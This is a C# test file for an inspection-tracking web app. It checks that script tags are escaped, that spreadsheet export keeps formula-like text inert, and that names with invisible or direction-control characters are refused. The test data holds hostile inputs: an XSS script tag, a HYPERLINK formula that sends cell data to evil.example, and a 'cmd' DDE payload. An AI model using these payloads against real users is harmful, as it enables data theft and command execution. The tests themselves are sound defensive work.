using System.Net;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Rectify.Core.Access;
using Rectify.Core.Data;
using Rectify.Tests.Hosting;
using Rectify.Tests.Support;

namespace Rectify.Tests.Documents;

/// <summary>Text typed by one user and shown to others: scripts stay text, spreadsheet cells stay text, names cannot hide characters.</summary>
public class HostileTextTests
{
    public static TheoryData<string> Providers => TestDatabases.Providers;

    const string Script = "<script>alert('整改')</script>";

    [Theory, MemberData(nameof(Providers))]
    public async Task ScriptInProblemTitle_HtmlNoticeAndProblemPage_ShowItAsText(string provider)
    {
        await using var app = await TestApp.StartAsync(provider);
        var w = await app.SeedWorldAsync();
        var c = await app.ClientFor("unit_admin-a");
        await HttpAssert.Ok<object>(await c.PutJson($"/api/problems/{w.A.ProblemId}", new { title = "学习不深入" + Script, version = 1 }));

        var html = await (await c.GetAsync($"/api/inspections/{w.A.InspectionId}/export?to=html")).Content.ReadAsStringAsync();
        Assert.Contains("学习不深入", html);
        Assert.DoesNotContain("<script>", html);
        Assert.Contains("&lt;script&gt;", html);

        var page = await (await WebPagesTests.SignedInAsync(app, "unit_admin-a")).GetStringAsync($"/problems/{w.A.ProblemId}");
        Assert.Contains("学习不深入", WebUtility.HtmlDecode(page));
        Assert.DoesNotContain("<script>alert", page);
        Assert.Contains("&lt;script&gt;", page);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task FormulaTextInLedger_ExcelExport_CellsAreTextNeverFormulas(string provider)
    {
        await using var app = await TestApp.StartAsync(provider);
        var w = await app.SeedWorldAsync();
        var c = await app.ClientFor("unit_admin-a");
        var hostile = new[] { "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)" };
        await HttpAssert.Ok<object>(await c.PutJson($"/api/problems/{w.A.ProblemId}", new { title = hostile[0], version = 1 }));
        await HttpAssert.Ok<object>(await c.PutJson($"/api/measures/{w.A.MeasureId}", new { text = hostile[1], remarks = hostile[3], version = 1 }));
        await HttpAssert.Ok<object>(await c.PostJson($"/api/problems/{w.A.ProblemId}/measures", new { text = hostile[2] }));

        var response = await c.GetAsync($"/api/inspections/{w.A.InspectionId}/export?to=xlsx");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var xlsx = SpreadsheetDocument.Open(new MemoryStream(await response.Content.ReadAsByteArrayAsync()), false);
        var cells = xlsx.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<Cell>()).ToList();
        Assert.NotEmpty(cells);
        Assert.DoesNotContain(cells, cell => cell.CellFormula is not null);
        var shared = xlsx.WorkbookPart.SharedStringTablePart?.SharedStringTable.Elements<SharedStringItem>().Select(s => s.InnerText).ToList() ?? [];
        string TextOf(Cell cell) => cell.DataType?.Value == CellValues.SharedString ? shared[int.Parse(cell.CellValue!.Text)] : cell.InnerText;
        foreach (var text in hostile)
        {
            var matching = cells.Where(x => TextOf(x).Contains(text)).ToList();
            Assert.NotEmpty(matching);
            foreach (var cell in matching)
            {
                Assert.True(cell.DataType?.Value == CellValues.InlineString || cell.DataType?.Value == CellValues.String || cell.DataType?.Value == CellValues.SharedString,
                    $"{text}: cell type {cell.DataType?.Value}");
                // The text does not start with a formula character: a spreadsheet shows it, it never evaluates it.
                Assert.DoesNotContain(TextOf(cell)[0], "=+-@");
            }
        }
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task NamesWithDirectionOverrideOrZeroWidth_RefusedInChinese_NothingStored(string provider)
    {
        await using var app = await TestApp.StartAsync(provider);
        var w = await app.SeedWorldAsync();
        var c = await app.ClientFor("unit_admin-a");
        foreach (var name in new[] { "张\u202E三", "王\u200B五", "\u2066李四\u2069", "赵\u00AD六", "钱\u200D七" })
        {
            var add = await HttpAssert.Problem(await c.PostJson("/api/people", new { name, organisationId = w.A.DepartmentId }), 400);
            Assert.Contains("不可见字符或文字方向控制符", add.GetProperty("detail").GetString());
            await HttpAssert.Problem(await c.PutJson($"/api/people/{w.A.PersonId}", new { name, organisationId = w.A.DepartmentId, version = 1 }), 400);
            await using var db = app.Open();
            var e = await Assert.ThrowsAsync<DomainRuleException>(() => Core.Access.Users.AddAsync(db, "user" + name, Role.Viewer, TestApp.Password, w.A.UnitId, null));
            Assert.Contains("不可见字符或文字方向控制符", e.Message);
            await Assert.ThrowsAsync<DomainRuleException>(() => Core.Access.Users.AddAsync(db, "user-ok", Role.Viewer, TestApp.Password, w.A.UnitId, null, displayName: name));
        }
        await using (var db = app.Open())
        {
            Assert.Equal(["张三a"], db.People.Where(p => p.UnitId == w.A.UnitId).Select(p => p.Name).ToList());
            Assert.DoesNotContain(db.Users, u => u.UserName.StartsWith("user"));
        }
        // Ordinary names, also with a middle dot (少数民族姓名), are still accepted.
        await HttpAssert.Ok<object>(await c.PostJson("/api/people", new { name = "阿依古丽·买买提", organisationId = w.A.DepartmentId }));
    }
}
